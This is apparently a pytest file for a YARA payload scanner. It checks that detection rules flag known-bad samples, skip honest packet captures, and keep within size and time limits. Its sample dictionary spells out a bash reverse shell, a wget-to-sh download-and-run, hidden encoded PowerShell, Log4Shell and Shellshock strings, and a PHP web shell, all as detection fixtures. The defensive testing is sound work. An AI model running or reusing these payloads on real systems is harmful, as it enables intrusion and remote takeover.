"""Known-bad content is flagged with its place; honest captures are not; rules and time have limits."""

from __future__ import annotations

import re
from itertools import count
from pathlib import Path

import pytest

pytest.importorskip("yara_x")
from qbitel.cluster import payload_scan
from qbitel.cluster.payload_scan import BUNDLED, PayloadScan
from qbitel.discovery.batch import MessageBatch
from qbitel.discovery.captured import protocols_in
from qbitel.discovery.captures import read_capture
from qbitel.discovery.errors import InputError, LimitError

# Written in parts, so that no virus scanner takes this file for what it tests.
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD" + b"-ANTIVIRUS-TEST-FILE!$H+H*"
BAD = {
    "eicar_test_file": EICAR,
    "windows_program": b"MZ..This program cannot be run in " + b"DOS mode\r\n....PE\0\0\x64\x86..",
    "linux_program": b"\x7f" + b"ELF\x02\x01\x01" + bytes(9),
    "reverse_shell": b"bash -i >& /dev/" + b"tcp/192.0.2.7/4444 0>&1",
    "download_and_run": b"cd /tmp; wget http://192.0.2.7/x.sh -O- " + b"| sh",
    "powershell_hidden": b"powershell.exe -nop -w hidden -enc " + b"SQBFAFgA" * 8,
    "log4shell": b"User-Agent: ${" + b"jndi:ldap://192.0.2.7/a}",
    "shellshock": b"Cookie: () { :;}" + b"; /bin/id",
    "nop_sled": b"\x90" * 24 + b"\x31\xc0\xb0\x0b" + b"\xcd\x80",
    "web_shell": b"<?php @eval(" + b"$_POST['x']); ?>",
}


def rule_names() -> list[str]:
    """Return the names of the bundled rules."""
    text = "".join(path.read_text() for path in sorted(BUNDLED.glob("*.yar")))
    return re.findall(r"^rule (\w+)", text, re.MULTILINE)


def test_every_bundled_rule_finds_what_it_is_for() -> None:
    """Each rule has an example, which it alone matches, also with other bytes around it; no example is left over."""
    assert sorted(BAD) == sorted(rule_names())
    scan = PayloadScan()
    for name, content in BAD.items():
        found = scan.scan([MessageBatch.from_payloads([b"\x01\x02 " + content + b" \x00\xff"])])
        assert [finding.rule for finding in found.findings] == [name]


def test_honest_captures_match_nothing(example_captures: Path) -> None:
    """Neither the example captures nor random bytes are flagged."""
    scan = PayloadScan()
    for path in sorted(each for each in example_captures.iterdir() if each.suffix in (".pcap", ".pcapng")):
        groups = protocols_in([read_capture(path)])
        found = scan.scan(batch for group in groups for batch in group.batches.values())
        assert found.messages > 0
        assert (found.lines(), path.name) == ([], path.name)


def test_finding_tells_how_many_and_where() -> None:
    """The first three places are named, all messages are counted, and nothing of their content is repeated."""
    payloads = [EICAR if row % 2 else b"fine" for row in range(10)]
    (line,) = PayloadScan().scan([MessageBatch.from_payloads(payloads)]).lines()
    what = "the test file that virus scanners agree on (EICAR)"
    assert line == f"scan: rule eicar_test_file ({what}): 5 messages: 1, 3, 5, …"


def test_rules_of_the_operator_are_used_beside_the_bundled(tmp_path: Path) -> None:
    """A file or a folder of rules; a file that includes another, or is none, is refused with its name."""
    (tmp_path / "own.yar").write_text('rule own { strings: $a = "PLANT" condition: $a }')
    batch = MessageBatch.from_payloads([b"PLANT", EICAR])
    for place in (tmp_path, tmp_path / "own.yar"):
        assert [each.rule for each in PayloadScan(place).scan([batch]).findings] == ["eicar_test_file", "own"]
    for text in ('include "/etc/passwd"', "rule {", "\xff"):
        wrong = tmp_path / "wrong.yar"
        wrong.write_text(text, encoding="latin-1")
        payload_scan._compiled.cache_clear()
        with pytest.raises(InputError, match=r"wrong\.yar"):
            PayloadScan(wrong)


def test_rules_have_a_limit(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A file that is larger than rules may be is not compiled."""
    large = tmp_path / "large.yar"
    large.write_bytes(b" " * (payload_scan.RULE_BYTES + 1))
    with pytest.raises(LimitError, match="bytes of rules"):
        PayloadScan(large)


def test_scan_ends_with_its_time_and_says_so(monkeypatch: pytest.MonkeyPatch) -> None:
    """What was not looked at is counted, over all batches; who stops the scan stops it."""
    batch = MessageBatch.from_payloads([b"x"] * 4)
    clock = count()
    monkeypatch.setattr(payload_scan, "monotonic", lambda: next(clock))
    found = PayloadScan(seconds=2).scan([batch, batch])
    assert found.lines() == ["scan: 6 of 8 messages were not looked at, for want of time"]
    assert PayloadScan(seconds=100).scan([batch], lambda: True).left_out == 4
